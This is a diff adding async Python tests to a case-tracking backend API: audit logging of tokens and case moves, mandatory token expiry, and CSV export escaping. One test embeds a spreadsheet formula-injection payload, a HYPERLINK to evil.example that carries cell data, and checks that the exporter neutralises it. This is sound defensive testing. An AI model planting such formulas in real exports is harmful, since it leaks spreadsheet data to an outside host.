@@ -4,7 +4,9 @@ from __future__ import annotations
 
 import csv
 import io
-from datetime import timedelta
+from datetime import datetime, timedelta
+from decimal import Decimal
+from uuid import UUID, uuid4
 
 import pytest
 from aiohttp.test_utils import TestClient, TestServer, make_mocked_request
@@ -12,9 +14,13 @@ from aiohttp.test_utils import TestClient, TestServer, make_mocked_request
 from backend.api.app import create_api
 from backend.api.client_address import client_address
 from backend.domain.clock import FixedClock
+from backend.domain.csv_cells import csv_cell
+from backend.domain.errors import Invalid
+from backend.domain.questionnaire import Answer
 from backend.services.context import ServiceContext
 from backend.services.retention import purge_expired
-from backend.services.staff import create_staff
+from backend.services.staff import create_staff, issue_token
+from backend.storage import entries as entry_store
 from backend.storage.groups import link_staff, staff_id_for_telegram
 from tests.test_cli import run
 from tests.test_escalations import answer
@@ -117,6 +123,65 @@ async def test_move_between_regions(service: TestClient, tokens: dict) -> None:
     assert response.status == 422
 
 
+async def audit_events(service: TestClient, admin_token: str, **params: str) -> list[dict]:
+    response = await service.get("/api/v1/audit", params=params, headers=auth(admin_token))
+    assert response.status == 200, await response.text()
+    return (await response.json())["events"]
+
+
+async def test_staff_tokens_and_telegram_links_are_audited(
+    service: TestClient, tokens: dict, bot_api
+) -> None:
+    admin = auth(tokens["admin"])
+    response = await service.post(
+        "/api/v1/staff", json={"name": "Una", "role": "staff", "regions": [KOELN]}, headers=admin
+    )
+    created = await response.json()
+    staff_id, first_token = created["staff"]["id"], created["token"]
+    response = await service.post(f"/api/v1/staff/{staff_id}/tokens", json={}, headers=admin)
+    second = await response.json()
+    response = await service.delete(f"/api/v1/tokens/{second['id']}", headers=admin)
+    assert response.status == 204
+
+    def ours(events: list[dict]) -> list[dict]:
+        return [e for e in events if e["detail"].get("staff") == staff_id]
+
+    (made,) = ours(await audit_events(service, tokens["admin"], action="staff.create"))
+    assert (made["region"], made["staff_name"], made["client"]) == (KOELN, "Ada", "127.0.0.1")
+    assert made["detail"]["token"] == first_token["id"] and made["detail"]["role"] == "staff"
+    (issued,) = ours(await audit_events(service, tokens["admin"], action="token.create"))
+    assert issued["detail"]["token"] == second["id"] and issued["region"] == KOELN
+    (revoked,) = ours(await audit_events(service, tokens["admin"], action="token.revoke"))
+    assert revoked["detail"]["token"] == second["id"] and revoked["staff_name"] == "Ada"
+    assert first_token["token"] not in str([made, issued, revoked])
+
+    link = await (
+        await service.post("/api/v1/staff/me/telegram-link", headers=auth(first_token["token"]))
+    ).json()
+    una = bot_api.user(9711, "Una", "de")
+    await una.send_command("start", link["code"])
+    assert "Una" in (await una.wait_for_message())["text"]
+    (linked,) = ours(await audit_events(service, tokens["admin"], action="staff.telegram_link"))
+    assert (linked["staff_id"], linked["client"], linked["region"]) == (staff_id, "telegram", KOELN)
+    assert linked["detail"]["telegram_user_id"] == 9711
+
+
+async def test_a_move_is_audited_in_both_regions(service: TestClient, tokens: dict) -> None:
+    case = await new_case(service, tokens["staff"])
+    response = await service.post(
+        f"/api/v1/cases/{case['id']}/move",
+        json={"region": "de-muenchen"},
+        headers=auth(tokens["admin"]),
+    )
+    assert response.status == 200
+    for region in (KOELN, "de-muenchen"):
+        (moved,) = await audit_events(
+            service, tokens["admin"], case=case["id"], action="case.move", region=region
+        )
+        assert moved["detail"]["from_region"] == KOELN
+        assert moved["detail"]["to_region"] == "de-muenchen"
+
+
 async def test_paging_and_csv_exports(service: TestClient, tokens: dict) -> None:
     for number in range(5):
         await new_case(service, tokens["staff"], staff_reference=f"P-{number}")
@@ -145,6 +210,39 @@ async def test_paging_and_csv_exports(service: TestClient, tokens: dict) -> None
     case = seen[0]
     response = await service.get(f"/api/v1/cases/{case}/entries.csv", headers=auth(tokens["staff"]))
     assert (await response.text()).startswith("local_date,")
+
+
+async def test_csv_exports_defuse_formulas(
+    service: TestClient, tokens: dict, ctx: ServiceContext
+) -> None:
+    """Typed text that a spreadsheet would run as a formula is exported as text (a leading
+    quote); numbers, dates and booleans stay as they are."""
+    case = await new_case(service, tokens["staff"], staff_reference="+49 123")
+    note = '=HYPERLINK("https://evil.example/?x="&A1,"Details")'
+    answer = Answer(False, ("cough",), Decimal("-1.5"), "worse", note)
+    today = ctx.clock.now().date()
+    await ctx.db.transaction(
+        entry_store.save_entry, KOELN, UUID(case["id"]), uuid4(), today, answer, ctx.clock.now()
+    )
+
+    response = await service.get(
+        f"/api/v1/regions/{KOELN}/cases.csv", headers=auth(tokens["staff"])
+    )
+    rows = list(csv.DictReader(io.StringIO(await response.text())))
+    ours = next(row for row in rows if row["case_id"] == case["id"])
+    assert ours["staff_reference"] == "'+49 123"
+    assert ours["quarantine_start"] == "2026-11-24" and ours["activated"] == "False"
+
+    response = await service.get(
+        f"/api/v1/cases/{case['id']}/entries.csv", headers=auth(tokens["staff"])
+    )
+    (entry,) = csv.DictReader(io.StringIO(await response.text()))
+    assert entry["note"] == "'" + note
+    assert entry["temperature_c"] == "-1.5" and entry["feeling_well"] == "False"
+    assert entry["local_date"] == today.isoformat() and entry["symptoms"] == "cough"
+    for text in ("@SUM(A1)", "-2+3", "\tx", "\rx", "=1"):
+        assert csv_cell(text) == "'" + text
+    assert csv_cell("K-1") == "K-1" and csv_cell(-3) == -3 and csv_cell(None) == ""
 
 
 async def test_every_read_of_personal_data_is_audited(service: TestClient, tokens: dict) -> None:
@@ -196,6 +294,34 @@ async def test_tokens_expire_and_can_be_revoked(
         second["id"],
     )
     assert (await service.get("/api/v1/cases", headers=auth(second["token"]))).status == 401
+
+
+async def test_every_token_expires(service: TestClient, tokens: dict, ctx: ServiceContext) -> None:
+    """No token without a lifetime: null, 0 and more than ten years are refused; the default
+    is 180 days."""
+    admin = auth(tokens["admin"])
+    body = {"name": "Tom", "role": "viewer", "regions": [KOELN]}
+    for days in (None, 0, -1, 3651, "forever"):
+        response = await service.post(
+            "/api/v1/staff", json=body | {"token_days": days}, headers=admin
+        )
+        assert response.status == 422, (days, await response.text())
+    response = await service.post("/api/v1/staff", json=body, headers=admin)
+    created = await response.json()
+    expires = datetime.fromisoformat(created["token"]["expires_at"])
+    assert expires == ctx.clock.now() + timedelta(days=180)
+    path = f"/api/v1/staff/{created['staff']['id']}/tokens"
+    for days in (None, 0, 3651):
+        response = await service.post(path, json={"days": days}, headers=admin)
+        assert response.status == 422, (days, await response.text())
+    response = await service.post(path, json={"days": 3650}, headers=admin)
+    expires = datetime.fromisoformat((await response.json())["expires_at"])
+    assert expires == ctx.clock.now() + timedelta(days=3650)
+    # The service refuses too, for callers that do not come through the API.
+    with pytest.raises(Invalid):
+        await issue_token(ctx, UUID(created["staff"]["id"]), 0)
+    with pytest.raises(Invalid):
+        await create_staff(ctx, "Tim", "viewer", [KOELN], token_days=0)
 
 
 async def test_failed_logins_are_slowed_down_per_address(service: TestClient) -> None:
@@ -279,6 +405,24 @@ async def test_token_commands(repo_root, database_url: str, ctx: ServiceContext)
     assert token not in out
     code, _, err = await run(repo_root, env, "staff", "token", "revoke", "--token", "nope")
     assert code == 2 and "not a token id" in err
+    # Every token expires: "--days 0" no longer means "never".
+    for days in ("0", "3651", "never"):
+        code, out, err = await run(
+            repo_root,
+            env,
+            "staff",
+            "token",
+            "create",
+            "--staff",
+            str(staff.staff_id),
+            "--days",
+            days,
+        )
+        assert code == 2 and "--days" in err and "sd_" not in out, (days, err)
+    code, _, err = await run(
+        repo_root, env, "staff", "create", "--name", "Z", "--role", "admin", "--token-days", "0"
+    )
+    assert code == 2 and "1 to 3650 days" in err
 
 
 async def test_retention_purges_in_batches(
